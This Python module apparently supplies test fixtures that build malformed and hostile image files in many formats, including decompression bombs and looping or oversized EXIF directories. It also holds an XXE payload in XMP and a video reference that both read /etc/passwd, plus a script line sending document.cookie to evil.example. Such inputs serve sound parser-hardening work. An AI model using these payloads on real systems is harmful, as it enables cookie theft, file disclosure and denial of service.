"""The bytes of picture formats, put together from parts that may be as wrong as one likes.

Knows: PNG, GIF, JPEG, EXIF, WebP, AVIF, TIFF, BMP. Must not know: what is done with them.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterable
from functools import partial
from pathlib import Path
from typing import Any

from PIL import Image

SCRIPT = b"<script>fetch('https://evil.example/'+document.cookie)</script>"
MANY = 2**32 - 1
HEIC = Path(__file__).parents[3] / "plugins" / "images" / "tests" / "files" / "plain.heic"


def small(form: str, mode: str = "RGB", size: tuple[int, int] = (64, 48), **options: Any) -> bytes:
    """A good picture with something in it."""
    image = Image.linear_gradient("L").resize(size).convert("RGB")
    image.paste((200, 30, 30), (0, 0, size[0] // 2, size[1] // 2))
    out = io.BytesIO()
    image.convert(mode).save(out, form, **options)
    return out.getvalue()


def cut(data: bytes, part: float) -> bytes:
    return data[: int(len(data) * part)]


def archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as writer:
        writer.writestr("index.html", SCRIPT)
    return out.getvalue()


# ----------------------------------------------------------------------------------------------------------------- PNG


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def zeros(count: int) -> bytes:
    """That many zeros, packed: one packed piece many times over, so that making a bomb costs nothing."""
    packer = zlib.compressobj(9)
    piece = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    head, again = piece[:2], piece[2:]
    rest = zlib.compressobj(9, wbits=-15)
    last = rest.compress(bytes(count & 0xFFFFF)) + rest.flush()
    return head + again * (count >> 20) + last + struct.pack(">HH", count % 65_521, 1)  # Adler-32 of zeros


def png(
    width: int,
    height: int,
    *,
    depth: int = 8,
    colour: int = 2,
    before: bytes = b"",
    data: bytes | None = None,
    after: bytes = b"",
) -> bytes:
    """A PNG by its parts; without `data` it has next to none."""
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    body = zlib.compress(bytes(100)) if data is None else data
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + before + chunk(b"IDAT", body) + after + chunk(b"IEND", b"")


def good_png(**more: bytes) -> bytes:
    return png(16, 16, data=zlib.compress(bytes(16 * 49)), **more)


def frame(number: int, width: int, height: int, x: int = 0, y: int = 0) -> bytes:
    return chunk(b"fcTL", struct.pack(">IIIIIHHBB", number, width, height, x, y, 1, 100, 0, 0))


def apng(width: int, height: int, frames: int, announced: int | None = None) -> bytes:
    """A good first picture and then frames of any size, each with as much data as the first."""
    more = []
    for number in range(frames):
        more.append(frame(1 + 2 * number, width, height))
        more.append(chunk(b"fdAT", struct.pack(">I", 2 + 2 * number) + zlib.compress(bytes(16 * 49), 1)))
    head = chunk(b"acTL", struct.pack(">II", frames + 1 if announced is None else announced, 0)) + frame(0, 16, 16)
    return good_png(before=head, after=b"".join(more))


ONE_BIT = partial(png, 10_000, 10_000, depth=1, colour=0)


# ----------------------------------------------------------------------------------------------------------------- GIF


def gif(canvas: tuple[int, int], frames: Iterable[tuple[int, int, int, int]], data: bytes = b"\x02\x02\x4c\x01\x00") -> bytes:
    """A GIF of two colours with these frames (left, top, width, height), all with the same data: one pixel."""
    out = [b"GIF89a", struct.pack("<HHBBB", *canvas, 0x80, 0, 0), b"\0\0\0\xff\xff\xff"]
    out += [b"!\xf9\x04\x00\x01\x00\x00\x00" + b"," + struct.pack("<HHHHB", *box, 0) + data for box in frames]
    return b"".join([*out, b";"])


ONE = (0, 0, 1, 1)


# ---------------------------------------------------------------------------------------------------------------- JPEG


def segment(marker: int, data: bytes) -> bytes:
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(data) + 2) + data


def scan_bomb(scans: int = 3_000, side: int = 10_000) -> bytes:
    """A progressive JPEG in which each scan of some 200 bytes says "nothing" about a million and a half blocks."""
    head = segment(0xDB, b"\0" + b"\x01" * 64) + segment(0xC2, struct.pack(">BHHB", 8, side, side, 1) + b"\x01\x11\x00")
    head += segment(0xC4, b"\x10" + b"\x01" + bytes(15) + b"\xe0")  # one code of one bit: 16,384 blocks end here
    codes = -(-((-(-side // 8)) ** 2) // 16_384)
    scan = segment(0xDA, b"\x01\x01\x00\x01\x3f\x00") + bytes(-(-codes * 15 // 8))
    return b"\xff\xd8" + head + scan * scans + b"\xff\xd9"


def huge_jpeg() -> bytes:
    data = bytearray(small("JPEG"))
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = b"\xff\xff\xff\xff"
    return bytes(data)


def entry(tag: int, kind: int, count: int, value: int) -> bytes:
    return struct.pack("<HHII", tag, kind, count, value)


def directory(*entries: bytes, following: int = 0) -> bytes:
    return struct.pack("<H", len(entries)) + b"".join(entries) + struct.pack("<I", following)


def circular_exif() -> bytes:
    """Directories that name themselves: EXIF, GPS, interoperability, the next one."""
    return b"II*\0\x08\0\0\0" + directory(*(entry(tag, 4, 1, 8) for tag in (0x8769, 0x8825, 0xA005)), following=8)


def greedy_exif() -> bytes:
    """Values of four billion parts, of unknown kinds, beyond the end."""
    tags = [entry(0x010E, 2, MANY, 26), entry(0x0112, 3, MANY, 6), entry(0x829A, 5, MANY, MANY), entry(0x9286, 99, 1, MANY)]
    return b"II*\0\x08\0\0\0" + directory(*tags, following=MANY)


def gps_exif() -> bytes:
    exif = Image.Exif()
    exif[0x8825] = {1: "N", 2: (52.0, 31.0, 12.5), 29: "2026:01:01", 27: b"EVIL" * 200}
    exif[0x010E] = "words"
    return exif.tobytes()


def with_segments(*segments: bytes) -> bytes:
    data = small("JPEG")
    return data[:2] + b"".join(segments) + data[2:]


def with_exif(exif: bytes) -> bytes:
    return with_segments(segment(0xE1, b"Exif\0\0" + exif))


XMP = b"http://ns.adobe.com/xap/1.0/\0<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x:xmpmeta>&a;</x:xmpmeta>"
FILM = (
    b"\0\0\0\x18ftypisom\0\0\0\0isommp42\0\0\0\x40moov\0\0\0\x38dref\0\0\0\0\0\0\0\1\0\0\0\x28url "
    b"\0\0\0\0file:///etc/passwd" + bytes(9)
)


def pointing_mpo() -> bytes:
    """A picture of several, whose list says they are four gigabytes away."""
    listed = directory(entry(0xB000, 7, 4, 0x30303130), entry(0xB001, 4, 1, 200), entry(0xB002, 7, 3_200, 50))
    body = b"II*\0\x08\0\0\0" + listed
    return with_segments(segment(0xE2, b"MPF\0" + body + b"\xff" * 3_200))


# --------------------------------------------------------------------------------------------------------- WebP, AVIF, HEIC


def riff(*chunks: tuple[bytes, bytes], length: int | None = None) -> bytes:
    body = b"WEBP" + b"".join(kind + struct.pack("<I", len(data)) + data + bytes(len(data) & 1) for kind, data in chunks)
    return b"RIFF" + struct.pack("<I", len(body) if length is None else length) + body


def canvas(width: int, height: int, flags: int = 0) -> tuple[bytes, bytes]:
    return b"VP8X", bytes([flags, 0, 0, 0]) + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")


LOSSLESS = small("WEBP", lossless=True, size=(16, 16))[20:]


def animated(width: int, height: int, frames: int) -> bytes:
    one = bytes(6) + (15).to_bytes(3, "little") * 2 + bytes([10, 0, 0, 0]) + b"VP8L" + struct.pack("<I", len(LOSSLESS))
    one += LOSSLESS
    return riff(canvas(width, height, 2), (b"ANIM", bytes(6)), *[(b"ANMF", one + bytes(len(LOSSLESS) & 1))] * frames)


def larger(data: bytes, width: int = 2**31 - 1, height: int = 2**31 - 1) -> bytes:
    """A picture in boxes that announces another size."""
    at = data.index(b"ispe") + 8
    return data[:at] + struct.pack(">II", width, height) + data[at + 8 :]


def boxes(data: bytes) -> bytes:
    """The same with a hundred thousand boxes of no length before its own."""
    return data[:4] + b"ftypavif\0\0\0\0avif" + b"\0\0\0\x08ipco" * 100_000


# ------------------------------------------------------------------------------------------------------------ TIFF, BMP

PLACE = 400


def grey(width: int, height: int, *, packed: int = 1, more: Iterable[bytes] = (), length: int = 100) -> tuple[bytes, ...]:
    kept = {
        256: entry(256, 4, 1, width), 257: entry(257, 4, 1, height), 258: entry(258, 3, 1, 8), 259: entry(259, 3, 1, packed),
        262: entry(262, 3, 1, 1), 273: entry(273, 4, 1, PLACE), 277: entry(277, 3, 1, 1),
        278: entry(278, 4, 1, height), 279: entry(279, 4, 1, length),
    }  # fmt: skip
    kept |= {struct.unpack("<H", one[:2])[0]: one for one in more}
    return tuple(kept[tag] for tag in sorted(kept))


def raw_tiff(*entries: bytes, following: int = 0, data: bytes = bytes(200)) -> bytes:
    """A TIFF with one directory and then data, which starts at `PLACE`."""
    return (b"II*\0\x08\0\0\0" + directory(*entries, following=following)).ljust(PLACE, b"\0") + data


def packed_tiff() -> bytes:
    data = zeros(300_000_000)
    return raw_tiff(*grey(16, 16, packed=8, length=len(data)), data=data)


TILES = (entry(322, 4, 1, 2**31 - 16), entry(323, 4, 1, 2**31 - 16), entry(324, 4, 1, PLACE), entry(325, 4, 1, 100))


def bmp(width: int, height: int, *, bits: int = 24, packed: int = 0, data: bytes = bytes(300), offset: int = 54) -> bytes:
    head = struct.pack("<IiiHHIIiiII", 40, width, height, 1, bits, packed, 0, 0, 0, 0, 0)
    return b"BM" + struct.pack("<IHHI", 54 + len(data), 0, 0, offset) + head + data


PALETTE = b"\0\0\0\0" * 256
